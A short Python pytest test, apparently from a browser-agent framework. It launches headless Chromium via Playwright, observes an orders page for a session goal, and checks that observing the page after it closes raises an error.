def test_a_page_that_is_gone_cannot_be_observed(orders: Orders) -> None:
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(find_chromium(None).path), args=["--no-sandbox"])
        page = browser.new_page()
        page.goto(orders.url)
        session = Session("Order for Dana.")
        seen = observe(page, session)
        page.close()
        with pytest.raises(WorldError, match="cannot be read"):
            observe(page, session)
        browser.close()

    assert (seen.title, seen.goal, [form.method for form in seen.forms]) == ("Orders", "Order for Dana.", ["POST"] * 2)
